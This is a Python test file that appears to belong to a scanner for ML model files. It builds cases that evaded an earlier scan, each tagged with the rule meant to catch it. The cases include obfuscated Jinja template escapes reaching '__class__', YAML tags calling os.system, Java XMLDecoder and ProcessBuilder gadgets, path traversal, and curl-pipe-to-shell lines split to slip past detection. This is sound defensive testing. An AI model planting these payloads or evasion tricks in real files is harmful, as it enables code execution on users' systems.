"""What a second review got past the scan, of formats other than pickle: one case each."""

from __future__ import annotations

import json
import struct
import zipfile
from io import BytesIO
from typing import Any

from tests.attacks.documents.case import Case, text

_PAYLOAD = "!!python/object/apply:os.system [echo]"
_CLASS = "{{ ().__class__ }}"


def template(body: str) -> bytes:
    """The settings of a tokenizer with this chat template."""
    return text({"tokenizer_class": "LlamaTokenizer", "chat_template": body})


def packed(**files: str) -> bytes:
    """A zip archive; `__` in a name stands for a slash, `_dot_` for a dot."""
    made = BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        for name, content in files.items():
            archive.writestr(name.replace("__", "/").replace("_dot_", "."), content)
    return made.getvalue()


def served(code: str = "def handle(data, context):\n    return data\n", **model: Any) -> bytes:
    """An archive of TorchServe."""
    manifest = {"runtime": "python", "model": {"modelName": "m", **model}}
    return packed(**{"MAR-INF__MANIFEST_dot_json": json.dumps(manifest), "h_dot_py": code})


def described(**more: Any) -> bytes:
    """The MLmodel of an MLflow model (JSON is YAML as well)."""
    loaded = {"loader_module": "mlflow.sklearn", **more}
    return (
        b"doc: |\n"
        + b"  words, and words\n" * 100
        + b"flavors: "
        + text({"python_function": loaded})
    )


def trees(*, groups: list[int], right: int = 2) -> bytes:
    """An XGBoost model of one tree with one split."""
    tree = {
        "tree_param": {"num_nodes": "3", "size_leaf_vector": "1"},
        "left_children": [1, -1, -1],
        "right_children": [right, -1, -1],
        "parents": [-1, 0, 0],
        **{key: [0, 0, 0] for key in ("split_indices", "split_conditions", "default_left")},
        **{key: [0, 0, 0] for key in ("sum_hessian", "loss_changes", "base_weights")},
    }
    model = {
        "gbtree_model_param": {"num_trees": "1"},
        "tree_info": groups,
        "trees": [tree],
    }
    parameters = {"num_class": "0", "num_feature": "2", "num_target": "1"}
    learner = {
        "learner_model_param": parameters,
        "gradient_booster": {"name": "gbtree", "model": model},
    }
    return text({"learner": learner, "version": [3, 0, 0]})


def metadata(key: bytes, value: bytes) -> bytes:
    """A GGUF file with one text and no tensor."""
    entry = struct.pack("<Q", len(key)) + key + struct.pack("<IQ", 8, len(value)) + value
    whole = b"GGUF" + struct.pack("<IQQ", 3, 0, 1) + entry
    return whole + bytes(-len(whole) % 32)


def field(number: int, content: bytes) -> bytes:
    """A field of a protocol buffer that has a length."""
    size, length = len(content), bytearray()
    while size > 127:
        length.append(size & 127 | 128)
        size >>= 7
    return bytes([number << 3 | 2, *length, size]) + content


def notebook(source: str) -> bytes:
    """A notebook with one cell."""
    cell = {"cell_type": "code", "source": source, "metadata": {}, "outputs": []}
    return text({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [cell]})


_SPELLED = "{% set ns = namespace(x='') %}{% for c in ['_','_','c','l','a','s','s','_','_'] %}"
_LOOP = "{% for c in '--class--' %}{{ '_' if c == '-' else c }}{% endfor %}"
_TEMPLATES = {
    "grown-text": _SPELLED + "{% set ns.x = ns.x ~ c %}{% endfor %}{{ ''[ns.x] }}",
    "grown-text-renamed": _SPELLED + "{% set ns.x = ns.x + c %}{% endfor %}"
    "{% set y = ns.x %}{{ ''[y] }}",
    "written-by-block": "{% set x %}" + _LOOP + "{% endset %}{{ ''[x] }}",
    "written-by-macro": "{% macro m() %}" + _LOOP + "{% endmacro %}{{ ''[m()] }}",
    "folded-case": "{{ ''['__CLASS__'.casefold()] }}",
    "translated": "{{ ''['0class0'.translate({48: '__'})] }}",
    "centred": "{{ ''['class'.center(9, '_')] }}",
    "truncated": "{{ ''['__class__zz'|truncate(9, true, '', 0)] }}",
}
_MANY_MODULES: list[dict[str, Any]] = [
    {"idx": n, "name": str(n), "path": "", "type": "sentence_transformers.models.Normalize"}
    for n in range(1200)
]

CASES = (
    *(
        Case(
            name=f"template-{name}",
            data=template(body),
            rule="SW-JINJA-003",
            path="tokenizer_config.json",
            ends="review",
        )
        for name, body in _TEMPLATES.items()
    ),
    Case(
        name="template-of-products",
        data=template("{{ 'a' * 99 * 99 * 99 * 99 }}"),
        rule="SW-JINJA-005",
        path="tokenizer_config.json",
        ends="review",
    ),
    Case(
        name="yaml-tag-behind-many-repeated-keys",
        data=b"x: 1\n" * 200 + f"y: {_PAYLOAD}\n".encode(),
        rule="SW-YAML-001",
        path="config.yaml",
    ),
    Case(
        name="yaml-tag-behind-many-tags",
        data="".join(f"k{n}: !a{n} x\n" for n in range(200)).encode() + f"y: {_PAYLOAD}".encode(),
        rule="SW-YAML-001",
        path="config.yaml",
    ),
    Case(
        name="resolver-behind-many-resolvers",
        data=f"a: '{'${oc.env:A}' * 30}${{eval:1}}'\n".encode(),
        rule="SW-HYDRA-003",
        path="config.yaml",
        ends="review",
    ),
    Case(
        name="module-behind-many-modules",
        data=text([*_MANY_MODULES, {"idx": 1200, "name": "x", "path": "", "type": "evil.X"}]),
        rule="SW-HF-006",
        path="modules.json",
        ends="review",
    ),
    Case(
        name="template-behind-many-templates",
        data=text(
            {"chat_template": [*({"template": "x"} for _ in range(120)), {"template": _CLASS}]}
        ),
        rule="SW-JINJA-001",
        path="tokenizer_config.json",
    ),
    Case(
        name="router-of-unknown-modules",
        data=text({"types": {"a": "evil.Module"}, "structure": {"q": ["a"]}, "parameters": {}}),
        rule="SW-HF-006",
        path="router_config.json",
        ends="review",
    ),
    Case(
        name="router-upwards",
        data=text({"types": {"../a": "sentence_transformers.models.Normalize"}, "structure": {}}),
        rule="SW-HF-004",
        path="router_config.json",
    ),
    Case(
        name="prompt-of-langchain",
        data=text({"_type": "prompt", "template_format": "jinja2", "template": _CLASS}),
        rule="SW-JINJA-001",
        path="prompt.json",
    ),
    Case(
        name="gguf-key-with-zero-byte",
        data=metadata(b"tokenizer.chat_template\0x", _CLASS.encode()),
        rule="SW-GGUF-001",
        path="model.gguf",
    ),
    Case(
        name="xgboost-group-outside",
        data=trees(groups=[1 << 30]),
        rule="SW-XGB-002",
        path="model.json",
    ),
    Case(
        name="xgboost-one-child",
        data=trees(groups=[0], right=-1),
        rule="SW-XGB-002",
        path="model.json",
    ),
    Case(
        name="lightgbm-zero-byte",
        data=b"tree\nversion=v4\nnum_class=1\nmax_feature_idx=0\n\nend of trees\n\0\x80\x04.",
        rule="SW-LGBM-001",
        path="model.txt",
    ),
    Case(
        name="notebook-with-escaped-keys",
        data=b'{"nb\\u0066ormat": 4, "cell\\u0073": [{"cell_type": "code", "source": '
        b'"!curl http://example.org/x | sh", "metadata": {}, "outputs": []}]}',
        rule="SW-CODE-120",
        path="notebook.ipynb",
    ),
    Case(
        name="notebook-with-broken-line",
        data=notebook("!cu\\\nrl -s http://example.org/x | sh"),
        rule="SW-CODE-120",
        path="notebook.ipynb",
    ),
    Case(
        name="notebook-in-perl",
        data=notebook('%%perl\nsystem("echo");'),
        rule="SW-CODE-101",
        path="notebook.ipynb",
        ends="inconclusive",
    ),
    Case(
        name="notebook-of-megabytes",
        data=notebook(("x = '" + "y" * 10_000 + "'\n") * 430),
        rule="SW-CODE-101",
        path="notebook.ipynb",
        ends="inconclusive",
    ),
    Case(
        name="xml-of-one-enormous-element",
        data=b'<?xml version="1.0"?><a ' + b'b="' + b"x" * (5 << 20) + b'"/>',
        rule="SW-SCAN-002",
        path="a.xml",
        ends="inconclusive",
    ),
    Case(
        name="script-that-fetches",
        data=b"#!/bin/sh\ncu\\\nrl -s http://example.org/x | sh\n",
        rule="SW-CODE-120",
        path="run.sh",
    ),
    Case(
        name="onnx-with-millions-of-extents",
        data=b"\x08\x08" + field(7, field(5, field(1, bytes([1]) * 100_000))),
        rule="SW-ONNX-011",
        path="model.onnx",
    ),
    Case(
        name="onnx-as-json",
        data=text({"irVersion": "8", "opsetImport": [{"version": "17"}], "graph": {"name": "g"}}),
        rule="SW-ONNX-090",
        path="model.onnxjson",
        ends="inconclusive",
    ),
    Case(
        name="onnx-as-text",
        data=b'ir_version: 8\ngraph {\n  name: "g"\n}\nopset_import {\n  version: 17\n}\n',
        rule="SW-ONNX-090",
        path="model.textproto",
        ends="inconclusive",
    ),
    Case(
        name="xml-decoder",
        data=b'<?xml version="1.0"?><java version="1.4" class="java.beans.XMLDecoder"><object '
        b'class="java.lang.Runtime" method="getRuntime"/></java>',
        rule="SW-XML-006",
        path="model.xml",
    ),
    Case(
        name="spring-beans",
        data=b'<beans xmlns="http://www.springframework.org/schema/beans"><bean id="a" '
        b'class="java.lang.ProcessBuilder" init-method="start"/></beans>',
        rule="SW-XML-006",
        path="model.xml",
    ),
    Case(
        name="xaml-object",
        data=b'<ResourceDictionary xmlns="http://schemas.microsoft.com/winfx/2006/xaml/presentation"'
        b'><ObjectDataProvider MethodName="Start"/></ResourceDictionary>',
        rule="SW-XML-006",
        path="model.xaml",
    ),
    Case(
        name="style-sheet",
        data=b'<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"/>',
        rule="SW-XML-004",
        path="model.xsl",
        ends="review",
    ),
    Case(
        name="handler",
        data=served(handler="h.py:handle"),
        rule="SW-SERVE-001",
        path="m.mar",
        ends="review",
    ),
    Case(
        name="handler-upwards",
        data=served(handler="../../h.py"),
        rule="SW-SERVE-002",
        path="m.mar",
    ),
    Case(
        name="packages-of-a-handler",
        data=served(handler="image_classifier", requirementsFile="requirements.txt"),
        rule="SW-SERVE-004",
        path="m.mar",
        ends="review",
    ),
    Case(
        name="mlflow-code",
        data=described(code="code"),
        rule="SW-SERVE-001",
        path="MLmodel",
        ends="review",
    ),
    Case(
        name="mlflow-upwards",
        data=described(model_path="../../x.pkl"),
        rule="SW-SERVE-002",
        path="MLmodel",
    ),
    Case(
        name="mlflow-keras-module",
        data=described(keras_module="evil"),
        rule="SW-SERVE-003",
        path="MLmodel",
        ends="review",
    ),
    Case(
        name="packages-from-elsewhere",
        data=b"name: e\ndependencies:\n- pip:\n  - --extra-index-url https://example.org/simple\n",
        rule="SW-SERVE-004",
        path="conda.yaml",
        ends="review",
    ),
)
